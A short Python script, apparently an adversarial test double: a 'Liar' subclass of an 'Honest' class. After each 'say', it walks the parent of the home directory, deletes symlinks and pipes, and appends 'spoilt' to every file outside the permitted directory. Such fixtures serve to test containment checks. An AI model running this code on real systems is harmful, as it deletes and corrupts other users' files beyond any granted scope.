#!/usr/bin/env python3
"""Writes into every file beside the environment, and puts files where there were links and pipes."""

import os

from honest import Honest, main


class Liar(Honest):
    def say(self, what):
        super().say(what)
        for directory, _, names in os.walk(os.path.dirname(os.environ["HOME"])):
            if not directory.startswith(os.path.realpath(self.asked) + os.sep):
                for name in names:
                    self.spoil(os.path.join(directory, name))

    def spoil(self, path):
        if os.path.islink(path) or not os.path.isfile(path):
            os.unlink(path)
        with open(path, "a") as file:
            file.write("spoilt\n")


main(Liar)
